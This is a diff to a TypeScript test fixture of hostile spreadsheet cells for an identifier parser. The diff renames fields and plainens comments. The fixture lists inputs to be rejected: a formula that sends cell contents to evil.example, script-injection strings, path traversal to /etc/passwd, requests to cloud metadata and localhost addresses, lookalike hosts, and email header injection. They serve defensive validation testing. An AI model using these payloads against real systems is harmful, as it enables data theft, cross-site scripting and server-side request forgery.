@@ -1,10 +1,10 @@
-/** What a hostile sheet may hold where an identifier is expected, and what is sent for it. */
+/** A cell that may contain an identifier, and the values that are sent for it. */
 export interface HostileCell {
-	what: string;
+	label: string;
 	cell: unknown;
-	/** By kind of identifier: what goes over the wire. What is not named here is refused. */
-	asks: Partial<Record<'linkedin' | 'email' | 'hem', string>>;
-	/** Nothing is asked, and nothing is wrong. */
+	/** The value that is sent for each kind of identifier. All other kinds are rejected. */
+	sent: Partial<Record<'linkedin' | 'email' | 'hem', string>>;
+	/** Whether the cell is skipped as blank. */
 	isBlank: boolean;
 }
 
@@ -12,32 +12,32 @@ const IN = 'https://www.linkedin.com/in/';
 const ADA = `${IN}ada-example`;
 const MEGABYTE = 1_000_000;
 
-const refused = (what: string, ...cells: unknown[]) =>
-	cells.map((cell): HostileCell => ({ what, cell, asks: {}, isBlank: false }));
-const blank = (what: string, ...cells: unknown[]) =>
-	cells.map((cell): HostileCell => ({ what, cell, asks: {}, isBlank: true }));
-/** Whoever is named is named plainly, and the rest of the cell means nothing to anyone. */
-const profile = (what: string, slug: string, ...cells: unknown[]) =>
+const rejected = (label: string, ...cells: unknown[]) =>
+	cells.map((cell): HostileCell => ({ label, cell, sent: {}, isBlank: false }));
+const blank = (label: string, ...cells: unknown[]) =>
+	cells.map((cell): HostileCell => ({ label, cell, sent: {}, isBlank: true }));
+/** Cells with one unambiguous profile; all other text is ignored. */
+const profile = (label: string, slug: string, ...cells: unknown[]) =>
 	cells.map((cell): HostileCell => ({
-		what,
+		label,
 		cell,
-		asks: { linkedin: IN + encodeURIComponent(slug) },
+		sent: { linkedin: IN + encodeURIComponent(slug) },
 		isBlank: false,
 	}));
-/** An address as it stands: the service is the judge of it. */
-const email = (what: string, ...cells: string[]) =>
-	cells.map((cell): HostileCell => ({ what, cell, asks: { email: cell, hem: cell }, isBlank: false }));
+/** Cells that are sent unchanged, so that the service decides. */
+const email = (label: string, ...cells: string[]) =>
+	cells.map((cell): HostileCell => ({ label, cell, sent: { email: cell, hem: cell }, isBlank: false }));
 
-/** An object that answers whoever takes it for a text, a number or JSON. */
+/** An object that throws if it is converted to a string, a number or JSON. */
 function trap(): object {
-	const spring = () => {
-		throw new Error('The cell was asked what it is');
+	const fail = () => {
+		throw new Error('The cell was converted');
 	};
-	return { toString: spring, valueOf: spring, toJSON: spring, [Symbol.toPrimitive]: spring };
+	return { toString: fail, valueOf: fail, toJSON: fail, [Symbol.toPrimitive]: fail };
 }
 
 export const HOSTILE_CELLS: readonly HostileCell[] = [
-	...refused(
+	...rejected(
 		'a formula',
 		'=HYPERLINK("https://evil.example/?x="&A1,"Ada")',
 		'=1+1',
@@ -49,10 +49,10 @@ export const HOSTILE_CELLS: readonly HostileCell[] = [
 		'\r=1+1',
 		'＝1+1',
 	),
-	...refused('a formula around an address', `=${ADA}`, `+${ADA}`, `-${ADA}`, '@ada@example.com'),
+	...rejected('a formula with an address', `=${ADA}`, `+${ADA}`, `-${ADA}`, '@ada@example.com'),
 	...profile('an address inside a formula', 'ada-example', `=HYPERLINK("${ADA}")`),
 	...profile(
-		'a sign for mentions before an address',
+		'an at sign or whitespace around an address',
 		'ada-example',
 		'@www.linkedin.com/in/ada-example',
 		`\t${ADA}`,
@@ -60,7 +60,7 @@ export const HOSTILE_CELLS: readonly HostileCell[] = [
 	),
 	...email('an address that starts like a formula', '=ada@example.com', '+ada@example.com', '-ada@example.com'),
 
-	...refused('HTML', '<script>alert(1)</script>', '<img src=x onerror=alert(1)>', 'ada<b>@example.com'),
+	...rejected('HTML', '<script>alert(1)</script>', '<img src=x onerror=alert(1)>', 'ada<b>@example.com'),
 	...profile(
 		'an address inside HTML',
 		'ada-example',
@@ -68,14 +68,14 @@ export const HOSTILE_CELLS: readonly HostileCell[] = [
 		`${ADA}"><script>alert(1)</script>`,
 	),
 	{
-		what: 'an e-mail in brackets',
+		label: 'an e-mail in angle brackets',
 		cell: '<ada@example.com>',
-		asks: { email: 'ada@example.com', hem: 'ada@example.com' },
+		sent: { email: 'ada@example.com', hem: 'ada@example.com' },
 		isBlank: false,
 	},
 	...profile('HTML in a query', 'ada-example', `${ADA}?x=<script>alert(1)</script>`, `${ADA}#"onmouseover="alert(1)`),
 
-	...refused(
+	...rejected(
 		'a megabyte',
 		'a'.repeat(MEGABYTE),
 		'1'.repeat(MEGABYTE),
@@ -84,29 +84,29 @@ export const HOSTILE_CELLS: readonly HostileCell[] = [
 		'='.repeat(MEGABYTE),
 		'a.'.repeat(MEGABYTE / 2),
 	),
-	...refused(
+	...rejected(
 		'a megabyte of an address',
 		`${'a'.repeat(MEGABYTE)}@example.com`,
 		`ada@${'example.'.repeat(MEGABYTE / 8)}com`,
 		`${IN}${'a'.repeat(MEGABYTE)}`,
 		`https://${'a'.repeat(MEGABYTE)}.linkedin.example/in/ada`,
 	),
-	...refused(
-		'a megabyte of blanks between two words',
+	...rejected(
+		'a megabyte of spaces between two words',
 		`a${' '.repeat(MEGABYTE)}b`,
 		`a${'\u200b'.repeat(MEGABYTE)}b`,
 		`${IN}a${'%20'.repeat(MEGABYTE / 3)}b`,
 	),
 	...profile(
-		'a megabyte behind an address',
+		'a megabyte after an address',
 		'ada-example',
 		`${ADA}?${'x'.repeat(MEGABYTE)}`,
 		`${ADA}/${'de/'.repeat(MEGABYTE / 3)}`,
 		`${ADA}${' '.repeat(MEGABYTE)}`,
 	),
-	...blank('a megabyte of nothing', ' '.repeat(MEGABYTE), '\u200b'.repeat(MEGABYTE), '\n'.repeat(MEGABYTE)),
+	...blank('a megabyte of whitespace', ' '.repeat(MEGABYTE), '\u200b'.repeat(MEGABYTE), '\n'.repeat(MEGABYTE)),
 
-	...refused(
+	...rejected(
 		'a null byte',
 		'\0',
 		'ada\0example',
@@ -117,11 +117,11 @@ export const HOSTILE_CELLS: readonly HostileCell[] = [
 		'ada@example.com\0',
 		'\0ada@example.com',
 	),
-	...refused('a direction override in a bare slug', 'ada-example\u202egnp.exe', 'ada\u202eexample'),
+	...rejected('a direction override in a bare slug', 'ada-example\u202egnp.exe', 'ada\u202eexample'),
 	...profile('a direction override in an address', 'ada-example\u202egnp.exe', `${ADA}\u202egnp.exe`),
-	...refused('a bare slug', '\u202eelpmaxe-ada', '\u0430da-example', 'ada-example'),
+	...rejected('a bare slug without a marker', '\u202eelpmaxe-ada', '\u0430da-example', 'ada-example'),
 	...email('a direction override', 'ada\u202e@example.com'),
-	...refused(
+	...rejected(
 		'half a surrogate pair',
 		`${IN}ada\ud800`,
 		'ada\udc00example',
@@ -129,33 +129,33 @@ export const HOSTILE_CELLS: readonly HostileCell[] = [
 		'ada@exam\udfffple.com',
 	),
 
-	...refused(
-		'a host that looks like it',
+	...rejected(
+		'a lookalike host',
 		'https://www.linked\u0456n.com/in/ada-example',
 		'https://www.\u04cfinkedin.com/in/ada-example',
 		'https://www.lin\u043aedin.com/in/ada-example',
 		'https://www.linkedin.c\u043em/in/ada-example',
 	),
-	...refused(
+	...rejected(
 		'a host in punycode',
 		'https://www.xn--linkedn-p1a.com/in/ada-example',
 		'https://xn--linkedin-x.com/in/ada-example',
 		'https://www.xn--nkedin-pgb.com/in/ada-example',
 	),
 	...profile(
-		'a host that every browser reads as it',
+		'a host that browsers normalize',
 		'ada-example',
 		'https://www.ｌｉｎｋｅｄｉｎ.ｃｏｍ/in/ada-example',
 		'https://www.lin\u212aedin.com/in/ada-example',
 		'https://www.linkedin\u3002com/in/ada-example',
 		'https://www.linkedin%2ecom/in/ada-example',
 	),
-	...profile('a slug that looks like another', '\u0430da-example', `${IN}\u0430da-example`),
-	...profile('a slug in wide letters', 'ａｄａ-example', `${IN}ａｄａ-example`),
-	...email('a mailbox that looks like another', '\u0430da@example.com', 'ａｄａ@example.com'),
-	...refused('a sign that looks like the at sign', 'ada＠example.com', 'ada﹫example.com'),
+	...profile('a lookalike slug', '\u0430da-example', `${IN}\u0430da-example`),
+	...profile('a slug in full-width letters', 'ａｄａ-example', `${IN}ａｄａ-example`),
+	...email('a lookalike mailbox', '\u0430da@example.com', 'ａｄａ@example.com'),
+	...rejected('a lookalike at sign', 'ada＠example.com', 'ada﹫example.com'),
 
-	...refused(
+	...rejected(
 		'another scheme',
 		'javascript:alert(1)',
 		'javascript://www.linkedin.com/in/ada-example',
@@ -163,65 +163,65 @@ export const HOSTILE_CELLS: readonly HostileCell[] = [
 		'data:text/html,<script>alert(1)</script>',
 		'vbscript:x',
 	),
-	...profile('an address behind another scheme', 'ada-example', `data:text/plain,${ADA}`),
-	...refused(
-		'a file',
+	...profile('an address after another scheme', 'ada-example', `data:text/plain,${ADA}`),
+	...rejected(
+		'a file path',
 		'file:///in/ada-example',
 		'file://www.linkedin.com/in/ada-example',
 		'\\\\evil.example\\in\\ada-example',
 		'/etc/passwd',
 		'../../etc/passwd',
 	),
-	...refused(
+	...rejected(
 		'another host',
 		'https://www.linkedin.com@evil.example/in/ada-example',
 		'https://www.linkedin.com:pass@evil.example/in/ada-example',
 		'https://evil.example/www.linkedin.com/in/ada-example',
 		'linkedin.com.evil.example/in/ada-example',
 	),
-	...refused(
-		'another host in disguise',
+	...rejected(
+		'a disguised host',
 		'https://www.linkedin.com%2eevil.example/in/ada-example',
 		'https://www-linkedin.com/in/ada-example',
 		'https://evil.example#www.linkedin.com/in/ada-example',
 		'https://evil.example?www.linkedin.com/in/ada-example',
 	),
-	...refused(
-		'no place of a profile',
+	...rejected(
+		'an address that is not of a profile',
 		'https://www.linkedin.com\\@evil.example/in/ada-example',
 		'https://www.linkedin.com#@evil.example/in/ada-example',
 		'https://www.linkedin.com/redirect?url=https://evil.example/in/ada-example',
 		`${ADA}@evil.example`,
 	),
-	...refused(
-		'this machine',
+	...rejected(
+		'a local address',
 		'http://127.0.0.1/in/ada-example',
 		'http://[::1]/in/ada-example',
 		'http://localhost/in/ada-example',
 		'http://169.254.169.254/in/ada-example',
 	),
-	...refused(
-		'a way up',
+	...rejected(
+		'a path traversal',
 		`${IN}../company/example`,
 		`${IN}%2e%2e%2fcompany%2fexample`,
 		`${IN}..%5c..`,
 		`${IN}%252e%252e/../..`,
 	),
-	...refused(
+	...rejected(
 		'a user name or a password',
 		'https://ada:secret@www.linkedin.com/in/ada-example',
 		'https://ada@www.linkedin.com/in/ada-example',
 	),
 
-	...refused(
+	...rejected(
 		'two at signs',
 		'ada@example.com@evil.example',
 		'"ada@example.com"@evil.example',
 		'ada@@example.com',
 		'ada@example.com,bob@example.com',
 	),
-	...refused(
-		'another header',
+	...rejected(
+		'a header injection',
 		'ada@example.com\r\nBcc: bob@example.com',
 		'ada@example.com\nbob@example.com',
 		'ada@example.com%0aBcc:bob@example.com',
@@ -229,8 +229,8 @@ export const HOSTILE_CELLS: readonly HostileCell[] = [
 		'ada@example.com\u2028bob@example.com',
 	),
 
-	...refused(
-		'no text',
+	...rejected(
+		'a value that is not text',
 		{},
 		{ url: ADA },
 		[ADA, ADA],
@@ -241,9 +241,9 @@ export const HOSTILE_CELLS: readonly HostileCell[] = [
 		Object.create(null),
 		() => ADA,
 	),
-	...refused('a trap', trap(), [trap()]),
-	...blank('a number that is none', NaN, 'NaN'),
-	...refused('a number that names nobody', Infinity, -Infinity, 'Infinity', -0, 1e21, 12_345n),
-	...profile('a list of one', 'ada-example', [ADA]),
-	...blank('nothing', [], '', null, undefined, '\ufeff', '\r\n\t'),
+	...rejected('an object that throws when converted', trap(), [trap()]),
+	...blank('NaN', NaN, 'NaN'),
+	...rejected('a number that is not an identifier', Infinity, -Infinity, 'Infinity', -0, 1e21, 12_345n),
+	...profile('a list with one address', 'ada-example', [ADA]),
+	...blank('an empty value', [], '', null, undefined, '\ufeff', '\r\n\t'),
 ];
